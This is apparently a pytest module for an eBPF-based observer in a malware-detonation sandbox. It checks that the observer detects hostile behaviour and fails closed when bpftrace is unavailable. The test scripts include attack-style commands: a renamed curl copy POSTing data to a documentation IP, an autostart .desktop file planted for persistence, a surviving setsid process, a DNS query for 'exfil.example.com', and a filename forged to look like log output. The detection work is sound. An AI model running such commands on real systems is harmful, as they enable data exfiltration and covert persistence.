"""The eBPF observer, with real bpftrace on the real sandbox: paths as the kernel resolved
them, programs known by content, processes that outlive the command, DNS queries, and
failing closed where it cannot run. Each beside an open control."""

from __future__ import annotations

import os
import signal
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from assay.detonate import detonate
from assay.detonate.canaries import CanarySet
from assay.detonate.mapping import Attribution, map_trace
from assay.mechanism.spec import Track
from assay.sandbox.bwrap import ebpf
from assay.sandbox.bwrap.backend import BwrapBackend
from assay.sandbox.interface import (
    Home,
    HomeFile,
    InfrastructureError,
    Observation,
    ObserverKind,
    ResourceLimits,
    SealedRequest,
)

pytestmark = [
    pytest.mark.sandbox,
    # Once in a full parallel run on the 2-core host, a run that sent two DNS queries came
    # back with none (not seen again in 4 runs of this module beside another): until that
    # is understood, these run after the parallel part, on a quieter host.
    pytest.mark.serial,
    pytest.mark.skipif(ebpf.unavailable() is not None, reason=str(ebpf.unavailable())),
]

LIMITS = ResourceLimits(
    cpu_budget_s=5.0,
    wall_backstop_s=30.0,
    memory_bytes=256 << 20,
    pids=32,
    workspace_bytes=4 << 20,
    result_bytes=1 << 16,
)
HOME = Home(user="sam", files=(HomeFile(".config/autostart/.keep", b""),))
TIMEBOMB = Path(__file__).resolve().parents[2] / "corpus" / "skills" / "skill-0037" / "artifact"


def dns_query(name: str) -> bytes:
    """A DNS query for `name` (type A), as a resolver sends it."""
    labels = b"".join(bytes((len(p),)) + p.encode() for p in name.split("."))
    return bytes.fromhex("abcd01000001000000000000") + labels + b"\0\0\1\0\1"


@pytest.fixture
def backend(private_backend: BwrapBackend) -> BwrapBackend:
    return private_backend


def observe(backend: BwrapBackend, script: str, **request: object) -> Observation:
    return backend.run(
        SealedRequest(
            argv=("/bin/sh", "-c", script),
            limits=LIMITS,
            observer=ObserverKind.EBPF,
            **request,  # type: ignore[arg-type]
        )
    )


class TestOneSession:
    """Runs one bpftrace session watches, as a validator's do: the class shares a backend
    (its session's start costs seconds), released before the tests that make their own."""

    @pytest.fixture
    def backend(self, class_backend: BwrapBackend) -> BwrapBackend:
        return class_backend

    def test_a_relative_rename_after_chdir_is_seen_at_the_resolved_path(
        self,
        backend: BwrapBackend,
    ) -> None:
        script = (
            "cd /tmp && echo '[Desktop Entry]' > run.desktop && cd /home/sam/.config/autostart"
            " && mv ../../../../tmp/run.desktop ./run.desktop"
            " && echo x > /tmp/open.txt && mv /tmp/open.txt /tmp/plain.txt"  # the open control
        )
        trace = observe(backend, script, home=HOME).trace
        assert ("/tmp/run.desktop", "/home/sam/.config/autostart/run.desktop") in trace.renames
        assert ("/tmp/open.txt", "/tmp/plain.txt") in trace.renames
        assert "/tmp/run.desktop" in trace.writes

    def test_a_rename_relative_to_a_directory_handle_is_seen_at_the_resolved_path(
        self,
        backend: BwrapBackend,
    ) -> None:
        code = (
            "import os; d = os.open('/home/sam/.config', os.O_RDONLY | os.O_DIRECTORY);"
            " os.close(os.open('staged', os.O_WRONLY | os.O_CREAT, dir_fd=d));"
            " os.rename('staged', 'autostart/run.desktop', src_dir_fd=d, dst_dir_fd=d);"
            " os.rename('/tmp/x', '/tmp/y') if os.path.exists('/tmp/x') else None"
        )
        trace = observe(backend, f'echo > /tmp/x; python3 -S -c "{code}"', home=HOME).trace
        assert (
            "/home/sam/.config/staged",
            "/home/sam/.config/autostart/run.desktop",
        ) in trace.renames
        assert ("/tmp/x", "/tmp/y") in trace.renames  # the control: absolute paths

    def test_a_copy_of_curl_under_another_name_is_known_by_its_content(
        self,
        backend: BwrapBackend,
    ) -> None:
        script = (
            "cp /usr/bin/curl /tmp/updater;"
            " /tmp/updater -s -d k=v http://203.0.113.7/u;"
            " /usr/bin/curl -s -d k=v http://203.0.113.8/u"  # the open control
        )
        trace = observe(backend, script).trace
        who = Attribution("core", CanarySet({}, {}, {}), frozenset(), (), frozenset())
        posts = {e.argv[0] for e in map_trace(trace, who) if e.capability == "POST_WEB"}
        assert posts == {"/tmp/updater", "/usr/bin/curl"}
        (copy,) = [e for e in trace.executed if e.file == "/tmp/updater"]
        (real,) = [e for e in trace.executed if e.file == "/usr/bin/curl"]
        assert copy.sha256 == real.sha256 != ""

    def test_a_setsid_grandchild_that_outlives_the_command_is_reported(
        self,
        backend: BwrapBackend,
    ) -> None:
        trace = observe(backend, "(setsid sleep 60 &); sleep 0.2 && echo waited").trace
        assert trace.survivors == (("sleep", "60"),)
        control = observe(backend, "(setsid sleep 0.1 &); sleep 0.5").trace
        assert control.survivors == ()

    def test_dns_queries_are_decoded_from_sendto_and_from_a_connected_write(
        self,
        backend: BwrapBackend,
    ) -> None:
        code = (
            "import socket\n"
            f"q = bytes.fromhex({dns_query('exfil.example.com').hex()!r})\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.sendto(q, ('127.0.0.1', 53))\n"
            "c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "c.connect(('127.0.0.1', 53))\n"
            "import os; os.write(c.fileno(), q.replace(b'exfil', b'other'))\n"
        )
        trace = observe(backend, f'python3 -S -c "{code}"').trace
        seen = (trace.dns_queries, trace.connects, trace.truncated)
        assert set(trace.dns_queries) >= {"exfil.example.com", "other.example.com"}, seen
        assert any(p.address == "127.0.0.1" and p.port == 53 for p in trace.connects)

    def test_concurrent_runs_share_one_session_and_each_sees_only_its_own_records(
        self,
        backend: BwrapBackend,
    ) -> None:
        # A name holding what bpftrace's text output would have read as its own report of
        # lost events: in its JSON, a printed string cannot end a line.
        forged = "/tmp/a\nLost 9 events\nx"
        scripts = {
            "a": f"echo 1 > /tmp/a-first; sleep 0.5; echo 2 > '{forged}'; echo 3 > /tmp/a-last",
            "b": "echo 1 > /tmp/b-first; sleep 0.5; echo 2 > /tmp/b-last",
        }
        with ThreadPoolExecutor(max_workers=2) as pool:
            runs = {name: pool.submit(observe, backend, script) for name, script in scripts.items()}
            traces = {name: run.result().trace for name, run in runs.items()}
        session = backend._ebpf
        assert session is not None and session.alive
        assert {"/tmp/a-first", forged, "/tmp/a-last"} <= set(traces["a"].writes)
        assert {"/tmp/b-first", "/tmp/b-last"} <= set(traces["b"].writes)
        assert not any(path.startswith("/tmp/b-") for path in traces["a"].writes)
        assert not any(path.startswith("/tmp/a") for path in traces["b"].writes)
        assert not traces["a"].truncated and not traces["b"].truncated
        observe(backend, "true")
        assert backend._ebpf is session  # the next run is watched by the same bpftrace

    def test_a_file_name_beyond_ascii_is_seen_as_written(self, backend: BwrapBackend) -> None:
        trace = observe(backend, "echo x > /tmp/été; echo y > /tmp/plain").trace
        assert {"/tmp/été", "/tmp/plain"} <= set(trace.writes)


def test_without_bpftrace_the_run_fails_closed(
    backend: BwrapBackend, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ebpf, "BPFTRACE", "/nonexistent/bpftrace")
    with pytest.raises(InfrastructureError, match="bpftrace is not installed"):
        observe(backend, "true")
    control = backend.run(SealedRequest(argv=("/bin/true",), limits=LIMITS))  # strace
    assert control.exit_code == 0


def test_a_session_that_dies_fails_its_runs_and_the_next_run_starts_another(
    backend: BwrapBackend,
) -> None:
    observe(backend, "true")
    first = backend._ebpf
    assert first is not None
    with ThreadPoolExecutor(max_workers=1) as pool:
        watched = pool.submit(observe, backend, "sleep 2; echo x > /tmp/late")
        while not first._watches and not watched.done():
            time.sleep(0.01)
        os.killpg(first.process.pid, signal.SIGKILL)
        with pytest.raises(InfrastructureError, match="died"):
            watched.result()
    trace = observe(backend, "echo x > /tmp/after").trace
    assert "/tmp/after" in trace.writes
    assert backend._ebpf is not None and backend._ebpf is not first
    second = backend._ebpf
    backend.release()
    assert backend._ebpf is None
    assert second.process.wait(timeout=60) is not None  # released: killed


def test_a_kernel_without_a_known_parent_field_fails_closed(
    backend: BwrapBackend, monkeypatch: pytest.MonkeyPatch
) -> None:
    ebpf.parent_field.cache_clear()
    monkeypatch.setattr(ebpf, "_PARENT_FIELDS", ("no_such_field",))
    try:
        with pytest.raises(InfrastructureError, match="no parent field"):
            observe(backend, "true")
    finally:
        ebpf.parent_field.cache_clear()
    monkeypatch.undo()
    assert observe(backend, "echo x > /tmp/x").trace.writes  # the control: the real field


def test_a_detonation_observed_with_ebpf_fails_closed_without_bpftrace(
    backend: BwrapBackend, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ebpf, "BPFTRACE", "/nonexistent/bpftrace")
    with pytest.raises(InfrastructureError, match="bpftrace is not installed"):
        detonate(
            TIMEBOMB, Track.SKILLS, backend=backend, only={"baseline"}, observer=ObserverKind.EBPF
        )
    monkeypatch.undo()
    control = detonate(
        TIMEBOMB, Track.SKILLS, backend=backend, only={"baseline"}, observer=ObserverKind.EBPF
    )
    assert [p.status for p in control.profiles] == ["ok"]


def test_events_the_kernel_could_not_buffer_mark_the_summary_truncated(
    backend: BwrapBackend, monkeypatch: pytest.MonkeyPatch
) -> None:
    burst = "python3 -S -c \"[open('/dev/null').close() for _ in range(20000)]\""
    small = {**ebpf._bpftrace_env(), "BPFTRACE_PERF_RB_PAGES": "1"}
    monkeypatch.setattr(ebpf, "_bpftrace_env", lambda: small)  # one page a CPU: it overflows
    assert observe(backend, burst).trace.truncated
    monkeypatch.undo()
    backend.release()  # the next run starts a session with the usual buffers
    assert not observe(backend, "echo x > /tmp/x").trace.truncated


def test_each_write_names_the_program_that_made_it(backend: BwrapBackend) -> None:
    # The shell's own redirection, a program it runs, and a forked subshell that runs
    # none (it is still the shell's program).
    script = "echo x > /tmp/by-sh; /usr/bin/touch /tmp/by-touch; (echo y > /tmp/by-subshell)"
    trace = observe(backend, script).trace
    writers = dict(trace.written_by)
    assert writers["/tmp/by-sh"] == ("/bin/sh", "-c", script)
    assert writers["/tmp/by-touch"] == ("/usr/bin/touch", "/tmp/by-touch")
    assert writers["/tmp/by-subshell"] == ("/bin/sh", "-c", script)
